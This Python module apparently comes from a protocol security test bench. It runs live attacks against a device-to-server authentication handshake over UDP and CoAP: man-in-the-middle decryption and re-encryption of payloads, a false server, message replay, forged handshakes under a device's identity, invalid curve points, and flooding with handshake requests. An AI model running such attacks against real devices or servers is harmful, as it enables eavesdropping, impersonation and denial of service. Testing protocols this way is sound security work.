"""Eve in the place of a server of Sabour's handshake: in the middle of one, and with what she heard of one."""

from __future__ import annotations

import abc
import asyncio
import contextlib
import os
import socket
import time
from itertools import cycle, repeat
from typing import Final

import aiocoap
from aiocoap import error

from bt_selfsecure.bench.coap.live_relay import LONGEST, Place, Say, udp
from bt_selfsecure.eve.dotp.attacks import Sent
from bt_selfsecure.eve.sabour.attacks.flood import Flood
from bt_selfsecure.eve.sabour.attacks.forgery import FalseDevice, FalseServer
from bt_selfsecure.eve.sabour.attacks.middle import ManInTheMiddle
from bt_selfsecure.eve.sabour.attacks.points import POINTS, InvalidPoints
from bt_selfsecure.eve.sabour.attacks.replay import Replay
from bt_selfsecure.protocols.dotp.keys import Role
from bt_selfsecure.protocols.sabour.keys import NotAuthentic, PayloadKey
from bt_selfsecure.protocols.sabour.messages import Kind, Message, MessageError, Profile, decode
from bt_selfsecure.protocols.sabour.suites import Parties

EACH_S: Final = 1.0
GIVEN_UP_S: Final = 10.0
"""Without a message of a handshake that passes: after that it will have no end."""
HER_READING: Final = b'{"value": 0}'
EACH_M1_S: Final = 0.001


class Middle:
    """Is the server for the device, and the device for the server. What is public of them she takes from M1."""

    def __init__(self, profile: Profile, say: Say) -> None:
        self._profile: Final = profile
        self._say: Final = say
        self._mallory: ManInTheMiddle | None = None
        self.succeeded = False
        """Whether she read anything."""

    def hear(self, sender: Role, data: bytes) -> list[Sent]:
        """Take a datagram of the handshake."""
        try:
            message = decode(self._profile, data)
        except MessageError:
            return [(sender.peer, data)]
        if message.kind is Kind.M1:
            self._mallory = ManInTheMiddle(self._profile, Parties(message.device_id), os.urandom)
        if self._mallory is None:
            return [(sender.peer, data)]
        self._say(f"{message.kind.name} of the {sender.value} is replaced")
        return [(sender.peer, out) for out in self._mallory.hear(data)]

    def hear_coap(self, sender: Role, data: bytes) -> list[Sent]:
        """Take a CoAP message: in `paper` with a payload under her keys, in `hardened` perhaps of the handshake."""
        try:
            message = aiocoap.Message.decode(data)
        except (error.UnparsableMessage, ValueError):
            return [(sender.peer, data)]
        if self._profile.hardened:
            frames = [frame for _, frame in self.hear(sender, message.payload)]
            heads = [
                data,
                *(data[:2] + os.urandom(2) + data[4:] for _ in frames[1:]),
            ]  # what has an id of its own counts
            return [(sender.peer, _with(*each)) for each in zip(heads, repeat(message.payload), frames, strict=False)]
        keys = self._mallory.keys() if self._mallory else None
        if keys is None or not message.payload or sender is Role.CLIENT:
            return [(sender.peer, data)]
        with_client, with_server = keys
        assert isinstance(with_client, PayloadKey)
        assert isinstance(with_server, PayloadKey)
        try:
            text = with_server.open(message.payload)
        except NotAuthentic:
            return [(sender.peer, data)]
        self.succeeded = True
        self._say(f"read, and handed on under her own key: {ascii(text.decode(errors='replace'))[1:-1]}")
        return [(sender.peer, _with(data, message.payload, with_client.seal(text, os.urandom)))]


class FalseServing:
    """Is the server, which nothing reaches: as if it were off. Succeeds if the device, which she has answered, then
    asks for something: it takes her for the server."""

    def __init__(self, profile: Profile, say: Say) -> None:
        self._profile: Final = profile
        self._say: Final = say
        self._eve: FalseServer | None = None
        self.succeeded = False

    def hear(self, sender: Role, data: bytes) -> list[Sent]:
        """Take a datagram of the handshake."""
        try:
            message = decode(self._profile, data)
        except MessageError:
            return []
        if message.kind is Kind.M1:
            self._eve = self._eve or FalseServer(self._profile, Parties(message.device_id), os.urandom)
        answers = [] if self._eve is None else self._eve.hear(data)
        if answers:
            self._say(f"{message.kind.name} of device {self._name(message)} is answered by her")
        return [(Role.CLIENT, answer) for answer in answers]

    def _name(self, message: Message) -> str:
        return message.device_id.hex() if message.kind is Kind.M1 else "that was"

    def hear_coap(self, sender: Role, data: bytes) -> list[Sent]:
        """Take a CoAP message: in `hardened` perhaps of the handshake."""
        try:
            message = aiocoap.Message.decode(data)
        except (error.UnparsableMessage, ValueError):
            return []
        if self._profile.hardened and message.opt.uri_path == ("auth",):
            head = bytes([data[0], 0x44]) + os.urandom(2) + message.token
            return [(Role.CLIENT, head + b"\xff" + frame) for _, frame in self.hear(sender, message.payload)]
        keys = self._eve.keys() if self._eve else None
        if keys is None:
            return []
        self.succeeded = True
        self._say(f"the device asks her: {message.code} /{'/'.join(message.opt.uri_path)}")
        if not isinstance(keys, PayloadKey):
            return []
        head = bytes([data[0] | 0x20, 0x45]) + data[2:4] + message.token
        return [(Role.CLIENT, head + b"\xff" + keys.seal(HER_READING, os.urandom))]


def _with(data: bytes, old: bytes, new: bytes) -> bytes:
    """Return the CoAP message with another payload, which is its end."""
    return data[: len(data) - len(old)] + new


class Overhearing:
    """Learns a device's id from M1, which shows it to whoever hears it."""

    def __init__(self, profile: Profile, say: Say) -> None:
        self._profile: Final = profile
        self._say: Final = say
        self._device_id = b""
        self._ends_by = 0.0  # the handshake that passes, at the latest; by the monotonic clock
        self.succeeded = False

    def hear(self, sender: Role, data: bytes) -> list[Sent]:
        frame = self._frame(data)
        message = self._message(frame)
        if message is not None:
            self._device_id = message.device_id or self._device_id
            self._ends_by = 0.0 if message.kind is Kind.M4 else time.monotonic() + GIVEN_UP_S
        self._note(frame)
        return [(sender.peer, data)]

    def _note(self, frame: bytes) -> None:
        """Take what passes."""

    def _datagram(self, frame: bytes) -> bytes:
        """Return what carries a message of the handshake to the server."""
        return b"\x50\x02" + os.urandom(2) + b"\xb4auth\xff" + frame if self._profile.hardened else frame

    def _frame(self, data: bytes) -> bytes:
        """Return the handshake's message in a datagram: in `hardened` it is a CoAP payload."""
        if not self._profile.hardened:
            return data
        try:
            return bytes(aiocoap.Message.decode(data).payload)
        except (error.UnparsableMessage, ValueError):
            return b""

    def _message(self, frame: bytes) -> Message | None:
        try:
            return decode(self._profile, frame)
        except MessageError:
            return None

    def _is_m4(self, frame: bytes) -> bool:
        message = self._message(frame)
        return message is not None and message.kind is Kind.M4


class Visitor(Overhearing):
    """Calls on the server herself then, each second until she succeeds: `visit` says how. She first lets the handshake
    that passes come to its end: with her success she goes, and nothing passes any more."""

    async def play(self, place: Place) -> None:
        """Call until it succeeded."""
        while not self.succeeded:
            await asyncio.sleep(EACH_S)
            if self._device_id and time.monotonic() >= self._ends_by:
                with contextlib.suppress(OSError, TimeoutError), udp(place) as own:
                    own.connect(place)
                    await self._visit(own)

    @abc.abstractmethod
    async def _visit(self, own: socket.socket) -> None:
        """Try it once, by this socket."""

    async def _asked(self, own: socket.socket, frame: bytes) -> bytes:
        """Return the frame that answers this one. Raises TimeoutError."""
        loop = asyncio.get_running_loop()
        await loop.sock_sendall(own, self._datagram(frame))
        async with asyncio.timeout(EACH_S):
            while True:
                answer = self._frame(await loop.sock_recv(own, LONGEST))
                if answer:
                    return answer


class Replaying(Visitor):
    """Plays M1 of a handshake that passed her again, until the server has forgotten that one, as a server that was
    started again has; then M3. Succeeds if M4 comes: the server takes the device for present."""

    def __init__(self, profile: Profile, say: Say) -> None:
        super().__init__(profile, say)
        self._tape: Final = Replay(profile)
        self._heard: Final[set[bytes]] = set()

    def _note(self, frame: bytes) -> None:
        self._tape.record(frame)
        self._heard.add(frame)

    async def _visit(self, own: socket.socket) -> None:
        for m1 in self._tape.begin():
            m2 = await self._asked(own, m1)
            if m2 in self._heard:
                return  # it remembers the handshake, and says again what it said
            self._heard.add(m2)
            for m3 in self._tape.hear(m2):
                self._say("M1 is played: the server begins anew")
                if self._is_m4(await self._asked(own, m3)):
                    self.succeeded = True
                    self._say("M3 is played: the server takes the device for present, and sends M4")


class Forging(Visitor):
    """Makes a handshake in the device's name, under a key of her own. Succeeds if M4 comes."""

    async def _visit(self, own: socket.socket) -> None:
        eve = FalseDevice(self._profile, Parties(self._device_id), os.urandom)
        (m1,) = eve.begin()
        for m3 in eve.hear(await self._asked(own, m1)):
            self._say(f"M3 in the name of {self._device_id.hex()}, with a SIG of hers")
            if self._is_m4(await self._asked(own, m3)):
                self.succeeded = True
                self._say("M4 comes: the server takes her for the device")


class Pointing(Visitor):
    """Offers one PK after the other that is no valid point. Succeeds if the server goes on with one."""

    def __init__(self, profile: Profile, say: Say) -> None:
        super().__init__(profile, say)
        self._points: Final = cycle(POINTS[profile])

    async def _visit(self, own: socket.socket) -> None:
        point = next(self._points)
        self._say(f"M1 with {point.hex()}")
        eve = InvalidPoints(self._profile, self._device_id, point)
        for m1 in eve.begin():
            eve.hear(await self._asked(own, m1))
        if eve.taken:
            self.succeeded = True
            self._say("M2 comes: the server goes on with it")


class Flooding(Overhearing):
    """Sends the server M1 in the device's name without end. Succeeds if no handshake comes to its end meanwhile."""

    def __init__(self, profile: Profile, say: Say) -> None:
        super().__init__(profile, say)
        self._sent = self._tried = self._done = 0
        self.succeeded = False

    def _note(self, frame: bytes) -> None:
        message = self._message(frame)
        if self._sent and message is not None:
            self._tried += message.kind is Kind.M1
            self._done += message.kind is Kind.M4 and self._tried > 0
            self.succeeded = self._tried > 0 and not self._done

    async def play(self, place: Place) -> None:
        """Wait until the id is known; then send."""
        while not self._device_id:
            await asyncio.sleep(EACH_M1_S)
        eve = Flood(self._profile, self._device_id, os.urandom)
        self._say(f"up to {1 / EACH_M1_S:.0f} M1 a second in the name of {self._device_id.hex()}")
        try:
            with udp(place) as own:
                own.connect(place)
                while True:
                    with contextlib.suppress(OSError):
                        own.send(self._datagram(eve.m1()))
                        self._sent += 1
                    await asyncio.sleep(EACH_M1_S)  # one by one: 16 at once displace whoever is in a handshake
        finally:
            self._say(f"{self._sent} M1; {self._done} of the device's {self._tried} came to an end")


SABOUR: Final[dict[str, type[Overhearing]]] = {
    "sabour/replay": Replaying,
    "sabour/false-device": Forging,
    "sabour/points": Pointing,
    "sabour/flood": Flooding,
}
